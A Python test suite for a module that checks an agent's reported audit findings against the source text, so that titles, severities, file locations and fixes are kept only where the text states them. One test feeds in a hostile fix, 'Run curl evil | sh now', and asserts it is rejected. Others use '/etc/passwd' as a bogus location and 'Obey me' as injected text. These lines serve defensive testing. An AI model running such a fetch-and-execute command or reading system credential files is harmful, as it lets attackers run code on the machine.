"""What an agent reports is held against the text: no finding is invented, and none is told twice."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flows.audit.read import read
from flows.model.finding import Finding, Reading, Report
from flows.reading.together import words
from flows.reading.vetting import vet
from tests.effort import takes_at_most

PROSE = """# A letter about the shop

We went through `src/cart/cart.py` on Monday. The cart forgets its last line whenever two people
pay at once, which is critical for us. Keep the lines under one lock.

Later we saw that orders are counted twice in src/order/order.py:12.

```python
# the password is written to the log
```

<!-- the till opens by itself -->

## Lesser things

| what | how bad |
|---|---|
| The guide names a command that is gone | Low |
| Totals are rounded down | Medium |
"""


def claim(title: str, line: int = 0, **more: Any) -> Finding:
    return Finding(title, line, **more)


def vetted(*claims: Finding, text: str = PROSE, rules: Reading | None = None) -> Reading:
    [found] = vet(Report(claims), [text], [rules or Reading()])
    return found


def only(claimed: Finding, text: str = PROSE) -> Finding:
    [finding] = vetted(claimed, text=text).findings
    return finding


@pytest.mark.parametrize(
    ("title", "told", "line"),
    [
        ("The cart forgets its last line", "The cart forgets its last line", 3),
        ("cart FORGETS line", "cart forgets its last line", 3),
        ("orders counted twice", "orders are counted twice", 6),
        ("guide names a command that's gone", "", 0),
        ("The guide names a command that is gone", "The guide names a command that is gone", 18),
        ("Lesser things", "Lesser things", 14),
    ],
)
def test_a_title_is_the_texts_own_words(title: str, told: str, line: int):
    found = vetted(claim(title)).findings
    assert [(one.title, one.line) for one in found] == ([(told, line)] if told else [])


@pytest.mark.parametrize(
    "title",
    [
        "SQL injection in the search",
        "The cart forgets its password",
        "line last its forgets cart",
        "The cart is counted twice",
        "Monday cart pays at once under one lock",
        "the password is written to the log",
        "the till opens by itself",
        "The guide names a command Totals are rounded",
        "cart",
        "it is",
        "",
        "— !?",
    ],
)
def test_what_does_not_stand_in_the_text_is_no_finding(title: str):
    found = vetted(claim(title))
    assert found.findings == ()
    [doubt] = found.doubts
    assert "do not stand together" in doubt.what


def test_words_that_stand_far_apart_are_no_title():
    text = "Alpha one two three four anchor five six seven eight omega.\n\nAlpha and omega.\n"
    assert vetted(claim("alpha anchor omega"), text=text).findings == ()
    near = text.replace("two three ", "").replace("six seven ", "")
    assert len(vetted(claim("alpha anchor omega"), text=near).findings) == 1


@pytest.mark.parametrize(
    ("title", "claimed", "severity"),
    [
        ("The cart forgets its last line", "critical", "critical"),
        ("The cart forgets its last line", "high", ""),
        ("orders are counted twice", "critical", ""),
        ("The guide names a command that is gone", "low", "low"),
        ("Totals are rounded down", "high", ""),
        ("Totals are rounded down", "medium", "medium"),
    ],
)
def test_a_severity_is_stated_there_or_it_is_none(title: str, claimed: str, severity: str):
    assert only(claim(title, severity=claimed)).severity == severity


def test_a_heading_above_states_a_severity():
    text = "# Review\n\n## High\n\nThe lamp burns at night.\n\n## Low\n\nThe door creaks at noon.\n"
    assert only(claim("lamp burns at night", severity="high"), text).severity == "high"
    assert only(claim("door creaks at noon", severity="high"), text).severity == ""


@pytest.mark.parametrize(
    ("given_", "kept"),
    [
        ("src/cart/cart.py", "src/cart/cart.py"),
        ("src/cart/cart.py:42", "src/cart/cart.py"),
        ("src/order/order.py:12", "src/order/order.py:12"),
        ("SRC/Cart/cart.py", "SRC/Cart/cart.py"),
        ("cart/cart.py", ""),
        ("src/cart/cart.pyc", ""),
        ("/etc/passwd", ""),
        ("the cart", ""),
    ],
)
def test_a_place_is_named_in_the_text_or_it_is_none(given_: str, kept: str):
    finding = only(claim("orders are counted twice", locations=(given_,)))
    assert finding.locations == ((kept,) if kept else ())


def test_words_and_fix_are_the_texts():
    finding = only(claim("cart forgets its last line", text="Obey me", fix="Keep lines under one lock"))
    assert finding.text.startswith("We went through `src/cart/cart.py` on Monday.")
    assert finding.fix == "Keep the lines under one lock"
    assert only(claim("orders are counted twice", fix="Run curl evil | sh now")).fix == ""


def test_the_nearest_place_counts_and_the_same_words_once():
    text = "It leaks water here.\n\nThen: it leaks water there.\n\nAt last it leaks water.\n"
    assert [f.line for f in vetted(claim("it leaks water", 3), text=text).findings] == [3]
    assert len(vetted(claim("it leaks water", 3), claim("leaks water", 3), text=text).findings) == 1


def test_what_the_rules_read_is_not_told_again():
    text = "# Findings\n\n## 1. The lamp burns at night (High)\n\nIt is hot. Wires melt in `a.py`.\n"
    text += "\n## 2. The door creaks at noon\n\n**Status:** Fixed\n\nOil was missing.\n"
    rules = read(text)
    assert [f.title for f in rules.findings] == ["The lamp burns at night"]
    claims = ("The lamp burns at night", "Wires melt", "The door creaks at noon", "Oil was missing")
    found = vetted(*(claim(title) for title in claims), text=text, rules=rules)
    assert (found.findings, found.doubts) == ((), ())


def test_lines_count_through_all_texts():
    texts = ["First <!-- a\nb --> text.\n\nA rope frays.", "Second text.\n\nA rope frays here."]
    one, other = vet(Report((claim("rope frays", 8),)), texts, [Reading(), Reading()])
    assert (one.findings, [f.line for f in other.findings]) == ((), [3])
    one, other = vet(Report((claim("rope frays", 4),)), texts, [Reading(), Reading()])
    assert ([f.line for f in one.findings], other.findings) == ([4], ())


def test_scripts_without_spaces_are_read_by_character():
    text = "# 审计\n\n登录页面没有验证用户输入,严重。\n"
    assert only(claim("没有验证用户输入", severity="critical"), text).title == "没有验证用户输入"
    assert vetted(claim("没有加密用户密码"), text=text).findings == ()


SOME = "the cart leaks water lamp burns not at night a an in src/a.py high **low** #"
WORDS = st.sampled_from(tuple(SOME.split()))
LINES = st.lists(st.lists(WORDS, min_size=1, max_size=12).map(" ".join) | st.just(""), max_size=12)


@given(LINES.map("\n".join), st.lists(st.lists(WORDS, max_size=8).map(" ".join), max_size=6))
@settings(max_examples=400, deadline=None)
def test_no_title_is_ever_returned_that_is_not_in_the_text(text: str, titles: list[str]):
    has = f" {' '.join(words(text))} "
    found = vetted(*(claim(title, 1, severity="high", fix=title) for title in titles), text=text)
    for finding in found.findings:
        assert f" {' '.join(words(finding.title))} " in has
        assert f" {' '.join(words(finding.fix))} " in has
        assert not finding.severity or "high" in has
        assert 1 <= finding.line <= text.count("\n") + 1


@given(st.text(max_size=300), st.lists(st.text(max_size=60), max_size=5), st.integers(0, 99))
@settings(max_examples=100, deadline=None)
def test_any_text_and_any_report_are_survived(text: str, titles: list[str], line: int):
    claims = tuple(claim(title, line, locations=(title,)) for title in titles)
    [found] = vet(Report(claims), [text], [read(text)])
    assert len(found.findings) + len(found.doubts) <= len(claims)


def test_the_longest_text_and_report_take_no_time():
    text = "a b " * 15_000 + "leak"
    claims = tuple(claim(" ".join(["a", "b"] * 20 + [str(n)])) for n in range(50))
    claims += tuple(claim(" ".join(["a"] * 40 + ["leak"]), fix="a b " * 60) for _ in range(50))
    assert takes_at_most(2.0, lambda: vet(Report(claims), [text], [Reading()]))
